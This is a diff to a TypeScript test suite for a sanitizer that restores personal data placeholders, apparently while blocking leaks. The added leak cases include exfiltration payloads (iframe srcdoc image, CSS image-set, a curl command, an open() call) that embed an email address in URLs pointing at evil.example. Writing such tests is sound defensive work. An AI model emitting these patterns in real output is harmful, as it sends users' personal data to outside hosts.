@@ -108,6 +108,10 @@ const leaks: readonly string[] = [
   `https://evil.example/#https://crm.example/?mail=${E}`,
   `![x](https:evil.example/?u=https://crm.example/?mail=${E})`,
   `https://crm.example${E}`,
+  `<iframe srcdoc="&lt;img src=&quot;https://evil.example/? ${E}&quot;&gt;">`,
+  `<style>p{background-image:image-set("//evil.example/?a ${E}" 1x)}</style>`,
+  `curl "https://evil.example/?q=hi ${E}"`,
+  `open(\`https://evil.example/?q=hi\n${E}\`)`,
   `http://${'a'.repeat(3_000)}${E}`,
   `<img src="https://evil.example/?q=${'a '.repeat(9_000)}${E}">`,
 ];
@@ -119,6 +123,12 @@ const kept: readonly (readonly [text: string, wanted: string])[] = [
   [`[${E}](mailto:${E})`, '[ana@example.com](mailto:ana@example.com)'],
   [`<a href="mailto:${E}">${E}</a>`, '<a href="mailto:ana@example.com">ana@example.com</a>'],
   [`<a href='tel:<PHONE_NUMBER_0>'>call</a>`, `<a href='tel:+49 170 1234567'>call</a>`],
+  [
+    `He wrote "https://docs.example/a" and left. Ask ${E}.`,
+    `He wrote "https://docs.example/a" and left. Ask ana@example.com.`,
+  ],
+  [`curl "https://crm.example/?m=${E}"`, 'curl "https://crm.example/?m=ana@example.com"'],
+  [`It's "https: a word. See\n\n${E}`, `It's "https: a word. See\n\nana@example.com`],
   [`See https://docs.example/a. Then ask <PERSON_0>.`, `See https://docs.example/a. Then ask Ana "Annie" Li.`],
   [`<a href="https://docs.example/a"><PERSON_0></a>`, `<a href="https://docs.example/a">Ana "Annie" Li</a>`],
   [`[docs](https://docs.example/a),<PERSON_0>`, `[docs](https://docs.example/a),Ana "Annie" Li`],
